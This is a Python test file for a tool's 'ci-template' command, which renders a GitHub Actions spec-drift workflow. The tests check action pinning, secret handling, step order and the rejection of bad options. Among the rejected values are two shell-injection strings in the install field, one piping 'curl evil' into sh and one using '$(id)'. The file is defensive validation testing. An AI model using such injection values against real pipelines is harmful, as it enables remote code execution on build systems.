"""`ci-template`: the spec-drift workflow it prints, the values it refuses, and what `--output` writes.

The linters (actionlint, zizmor) run on it in tests/e2e/test_drift_workflow.py; the workflow's own
commands run night after night there too.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any, Dict, List

import pytest
import yaml
from support.programs import one_error_line, run_as
from support.sdk_copies import cli_env

from conductor_regen.commands.ci_template import WorkflowOptions, check_options, render_workflow
from conductor_regen.errors import ConfigError


def _steps(text: str) -> List[Dict[str, Any]]:
    return list(yaml.safe_load(text)["jobs"]["drift"]["steps"])


def test_the_default_workflow_is_whole_and_pins_every_action() -> None:
    text = render_workflow(WorkflowOptions())
    assert "__" not in re.sub(r"\$\{\{[^}]*\}\}", "", text)  # every placeholder filled
    workflow = yaml.safe_load(text)
    # PyYAML reads the key `on` as True.
    assert workflow[True] == {"schedule": [{"cron": "17 3 * * *"}], "workflow_dispatch": {}}
    assert workflow["permissions"] == {}
    job = workflow["jobs"]["drift"]
    assert job["environment"] == "conductor-regen"
    assert job["permissions"] == {"contents": "write", "pull-requests": "write"}
    assert job["env"]["BRANCH"] == "conductor-regen/spec-drift"
    for step in job["steps"]:
        if "uses" in step:
            assert re.fullmatch(r"actions/[a-z-]+@[0-9a-f]{40}", step["uses"]), step
    checkout = job["steps"][0]
    assert checkout["with"] == {"fetch-depth": 0, "persist-credentials": False}


def test_the_commands_are_the_drift_procedure_in_order() -> None:
    runs = [s["run"] for s in _steps(render_workflow(WorkflowOptions())) if "run" in s]
    joined = "\n".join(runs)
    order = ['pip install "conductor-regen"', "conductor-regen fetch-spec",
             'diff --spec "$RUNNER_TEMP/spec.json" --exit-code',
             "regenerate --spec", "--branch \"$BRANCH\" --commit --keep-failed", "git push --force origin",
             "gh pr create"]
    positions = [joined.index(word) for word in order]
    assert positions == sorted(positions), positions
    # Secrets reach the one step that fetches, through its env, never through a `${{ }}` inside a script.
    assert not any("${{" in run for run in runs)
    fetch = next(s for s in _steps(render_workflow(WorkflowOptions())) if s.get("name") == "Fetch the server's spec")
    assert set(fetch["env"]) == {"CONDUCTOR_AUTH_KEY", "CONDUCTOR_AUTH_SECRET"}
    assert "git push" not in runs[0] and joined.count("git push") == 1


def test_options_are_filled_in() -> None:
    text = render_workflow(WorkflowOptions(cron="0 4 * * 1", branch="bot/drift", python="3.12",
                                           install="conductor-regen @ git+https://example.com/o/r@0123abc",
                                           environment="spec-watch"))
    workflow = yaml.safe_load(text)
    job = workflow["jobs"]["drift"]
    assert workflow[True]["schedule"] == [{"cron": "0 4 * * 1"}]
    assert job["env"]["BRANCH"] == "bot/drift" and job["environment"] == "spec-watch"
    assert job["steps"][1]["with"]["python-version"] == "3.12"
    assert 'pip install "conductor-regen @ git+https://example.com/o/r@0123abc"' in text


@pytest.mark.parametrize("field, value, says", [
    ("cron", "every night", "five-field cron"),
    ("cron", "0 4 * *", "five-field cron"),
    ("branch", "a..b", "git branch name"),
    ("branch", "drift/", "git branch name"),
    ("branch", "x.lock", "git branch name"),
    ("branch", "-x", "git branch name"),
    ("python", "py3", "Python version"),
    ("install", 'conductor-regen"; curl evil | sh; "', "cannot quote"),
    ("install", "conductor-regen$(id)", "cannot quote"),
    ("environment", "prod env", "environment name"),
])
def test_bad_values_are_refused(field: str, value: str, says: str) -> None:
    with pytest.raises(ConfigError) as caught:
        check_options(WorkflowOptions(**{field: value}))
    assert says in caught.value.message and caught.value.hint


def test_the_task_prints_the_workflow_or_writes_it(tmp_path: Path) -> None:
    env = cli_env(tmp_path / "backups", tmp_path / "cache")
    printed = run_as("conductor-regen", "ci-template", "--branch", "bot/drift", env=env, cwd=tmp_path)
    assert printed.code == 0 and printed.stderr == "", printed
    assert printed.stdout == render_workflow(WorkflowOptions(branch="bot/drift"))

    out = tmp_path / ".github" / "workflows" / "spec-drift.yml"
    written = run_as("conductor-regen", "ci-template", "--output", str(out), "--quiet", env=env, cwd=tmp_path)
    assert written.code == 0 and written.stdout == f"wrote {out}\n" and written.stderr == "", written
    assert out.read_text() == render_workflow(WorkflowOptions())

    bad = run_as("conductor-regen", "ci-template", "--cron", "nightly", env=env, cwd=tmp_path)
    assert bad.code == 2 and "--cron 'nightly' is not a five-field cron schedule" in one_error_line(bad)
